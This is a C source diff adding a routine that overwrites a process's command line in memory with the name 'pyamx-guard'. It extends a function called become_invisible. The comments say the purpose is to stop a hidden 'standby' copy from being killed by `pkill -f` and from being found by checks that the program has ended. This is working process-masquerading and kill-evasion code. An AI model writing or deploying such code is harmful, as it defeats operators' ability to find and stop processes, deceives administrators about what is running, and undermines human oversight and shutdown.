@@ -144,11 +144,57 @@ static void close_all_but(int keep)
     SYS0(close, dir);
 }
 
+/* The command line ps and pgrep -f show is the program's, in this copy of
+ * its memory: a `pkill -f prog` would hit the standby too, and a check that
+ * prog has ended would find it.  Overwritten in place (fields 48 and 49 of
+ * /proc/self/stat say where it is). */
+static void rename_command_line(void)
+{
+    char buf[2048];
+    long fd = SYS0(open, "/proc/self/stat", O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return;
+    long n = SYS0(read, fd, buf, sizeof buf - 1);
+    SYS0(close, fd);
+    if (n <= 0)
+        return;
+    buf[n] = 0;
+    char *p = buf + n;
+    while (p > buf && *p != ')') /* the name may hold spaces and parentheses */
+        p--;
+    unsigned long value[2] = {0, 0};
+    for (int field = 2; *p && field < 49; p++) {
+        if (*p == ' ') {
+            field++;
+            if (field >= 48) {
+                unsigned long v = 0;
+                for (const char *d = p + 1; *d >= '0' && *d <= '9'; d++)
+                    v = v * 10 + (unsigned long)(*d - '0');
+                value[field - 48] = v;
+            }
+        }
+    }
+    static const char name[] = "pyamx-guard";
+    if (value[0] == 0 || value[1] <= value[0] + sizeof name)
+        return;
+    /* Through the kernel: a program may have pointed it at memory this
+     * copy cannot write (PR_SET_MM_ARG_START). */
+    static const char zeros[256];
+    char *start = (char *)value[0];
+    for (unsigned long at = value[0]; at < value[1]; at += sizeof zeros) {
+        unsigned long left = value[1] - at;
+        if (self_copy((char *)at, zeros, left < sizeof zeros ? left : sizeof zeros) != 0)
+            return;
+    }
+    self_copy(start, name, sizeof name);
+}
+
 /* Returns the socket's descriptor after the move. */
 static int become_invisible(int sock)
 {
     SYS0(setsid, 0);
     SYS0(prctl, PR_SET_NAME, "pyamx-guard", 0, 0, 0);
+    rename_command_line();
     long s = SYS0(fcntl, sock, F_DUPFD_CLOEXEC, 3);
     if (s >= 0) {
         SYS0(close, sock);
